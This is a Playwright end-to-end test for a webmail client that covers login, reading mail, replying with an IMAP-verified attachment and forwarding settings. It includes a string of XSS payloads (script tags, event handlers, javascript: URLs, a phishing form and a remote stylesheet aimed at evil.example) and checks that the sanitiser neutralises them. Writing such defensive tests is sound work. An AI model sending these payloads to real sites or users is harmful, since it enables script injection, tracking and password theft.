/**
 * The webmail in headless Chromium (Debian chromium + playwright-core): log in, read a message
 * delivered over SMTP, reply with an attachment (it arrives at the other account over IMAP),
 * open a message full of XSS payloads (nothing executes), and save screenshots of the main
 * screens to test-artifacts/webmail/.
 */
import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { ImapFlow } from 'imapflow';
import { chromium, type Browser } from 'playwright-core';
import { eventually } from '../helpers/in-process-node';
import { WebHarness } from '../e2e/web-harness';

const ARTIFACTS = path.join(__dirname, '..', '..', 'test-artifacts', 'webmail');
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const XSS = `<p>Click nothing.</p>
<script>parent.postMessage('pwned-script','*');alert('script')</script>
<img src="x" onerror="alert('onerror');parent.postMessage('pwned-img','*')">
<a id="js" href="javascript:alert('href')">javascript link</a>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<div style="background:url(javascript:alert('css'));position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/track)}</style>
<iframe src="javascript:alert('iframe')"></iframe><object data="javascript:alert('object')"></object>
<form action="https://evil.example/"><input name="password"><button>Go</button></form>
<img src="https://tracker.example/pixel.gif">`;

let h: WebHarness;
let browser: Browser;
const pw = 'browser test password';

beforeAll(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  h = await WebHarness.start();
  await h.addUser('alice@web.test', pw);
  await h.addUser('bob@web.test', pw);
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
    ],
  });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await h?.stop();
});

it('logs in, reads, replies with an attachment (arrives over IMAP) and executes no mail script', async () => {
  await h.sendSmtp('bob@web.test', 'alice@web.test', 'Lunch on Friday?', {
    text: 'Shall we try the new place?\n\nBob',
    messageId: '<lunch@web.test>',
  });
  await h.sendSmtp('mallory@evil.test', 'alice@web.test', 'Totally harmless', { html: XSS });
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  const dialogs: string[] = [];
  const messages: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => messages.push(m.text()));
  await page.exposeFunction('__report', (s: string) => messages.push(s));

  await page.goto(`${h.base}/webmail/`);
  await page.waitForSelector('#login-form');
  await page.screenshot({ path: path.join(ARTIFACTS, '1-login.png') });
  await page.fill('#username', 'alice@web.test');
  await page.fill('#password', pw);
  await page.click('#login-form button[type=submit]');
  await page.waitForSelector('#folders li');
  await eventually(
    async () =>
      (await page.locator('#messages li', { hasText: 'Lunch on Friday?' }).count()) > 0 ||
      (await page.reload(), false),
    20_000,
  );
  await page.waitForSelector('#messages li:has-text("Lunch on Friday?")');
  expect(await page.locator('#folders li[data-role=inbox] .count').textContent()).toBe('2');
  await page.screenshot({ path: path.join(ARTIFACTS, '2-inbox.png') });

  await page.click('#messages li:has-text("Lunch on Friday?")');
  await page.waitForSelector('#reader-subject:has-text("Lunch on Friday?")');
  const body = page.frameLocator('#body-frame');
  await body.locator('pre').waitFor();
  expect(await body.locator('pre').textContent()).toContain('Shall we try the new place?');
  await page.screenshot({ path: path.join(ARTIFACTS, '3-reading.png') });

  await page.click('#reply');
  await page.waitForSelector('#compose[open]');
  expect(await page.inputValue('#compose-to')).toBe('bob@web.test');
  expect(await page.inputValue('#compose-subject')).toBe('Re: Lunch on Friday?');
  await page.locator('#compose-body').press('Home');
  await page
    .locator('#compose-body')
    .evaluate((el: HTMLTextAreaElement) => (el.value = 'Yes! Menu attached.' + el.value));
  await page.setInputFiles('#compose-files', {
    name: 'menu.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from('soup, bread, cheese\n'),
  });
  await page.screenshot({ path: path.join(ARTIFACTS, '4-compose.png') });
  await page.click('#compose-send');
  await page.waitForSelector('#compose', { state: 'detached' });

  // The reply arrives at Bob over IMAP, with the attachment and threading headers.
  const imap = new ImapFlow({
    host: '127.0.0.1',
    port: h.node.ports.imap!,
    secure: false,
    tls: { rejectUnauthorized: false },
    auth: { user: 'bob@web.test', pass: pw },
    logger: false,
  });
  await imap.connect();
  try {
    const source = await eventually(async () => {
      const lock = await imap.getMailboxLock('INBOX');
      try {
        const uids = (await imap.search({ subject: 'Re: Lunch on Friday?' }, { uid: true })) || [];
        if (uids.length === 0) return null;
        const msg = await imap.fetchOne(String(uids[0]), { source: true }, { uid: true });
        return msg ? msg.source!.toString() : null;
      } finally {
        lock.release();
      }
    }, 20_000);
    expect(source).toContain('Yes! Menu attached.');
    expect(source).toMatch(/filename="?menu\.txt/);
    expect(source).toMatch(/In-Reply-To: <lunch@web\.test>/i);
    expect(source).not.toMatch(/^Bcc:/im);
  } finally {
    await imap.logout();
  }

  // The hostile message: nothing runs, nothing remote loads, the overlay trick is gone.
  const remote: string[] = [];
  page.on('request', (r) => {
    if (!r.url().startsWith(h.base)) remote.push(r.url());
  });
  await page.click('#messages li:has-text("Totally harmless")');
  await page.waitForSelector('#reader-subject:has-text("Totally harmless")');
  const frame = page.frameLocator('#body-frame');
  await frame.locator('p:has-text("Click nothing.")').waitFor();
  const html = await frame.locator('body').innerHTML();
  expect(html).not.toMatch(/<script|onerror|onload|javascript:|<svg|<iframe|<object|<form|<style|position/i);
  await frame
    .locator('a', { hasText: 'javascript link' })
    .click({ trial: false })
    .catch(() => undefined);
  await page.waitForTimeout(500);
  await page.screenshot({ path: path.join(ARTIFACTS, '5-hostile-message.png') });
  expect(dialogs).toEqual([]);
  expect(messages.filter((m) => m.includes('pwned'))).toEqual([]);
  expect(remote).toEqual([]);
  // "Load images" is a per-message choice; still no script.
  await page.click('#load-images');
  await page.waitForSelector('#images-notice', { state: 'detached' });
  expect(dialogs).toEqual([]);

  // Keyboard: c opens compose; settings screen.
  await page.keyboard.press('Escape');
  await page.locator('#messages').click();
  await page.keyboard.press('c');
  await page.waitForSelector('#compose[open]');
  await page.click('#compose-cancel');
  await page.click('#settings-button');
  await page.waitForSelector('#settings[open]');
  await page.screenshot({ path: path.join(ARTIFACTS, '6-settings.png') });
  // Forwarding from settings: saved through JMAP Forwarding/set, honoured by delivery.
  await page.fill('#fwd-to', 'bob@web.test');
  await page.uncheck('#fwd-keep');
  await page.click('#settings-save');
  await page.waitForSelector('#settings', { state: 'detached' });
  expect(await h.node.directory.forwarding.get('alice@web.test')).toEqual({
    address: 'alice@web.test',
    targets: ['bob@web.test'],
    keepCopy: false,
  });
  await h.sendSmtp('carol@else.test', 'alice@web.test', 'Forwarded by settings', { text: 'hi' });
  await eventually(async () => {
    const bob = await h.node.directory.getAccount('bob@web.test');
    const inbox = await h.node.mailboxes.getMailbox(bob!.id, 'INBOX');
    const messages = await h.node.mailboxes.listMessages(inbox!.id);
    const texts = await Promise.all(messages.map((m) => h.node.mailboxes.readMessage(m)));
    return texts.some((t) => t.toString('utf8').includes('Forwarded by settings'));
  });
  await context.close();
});
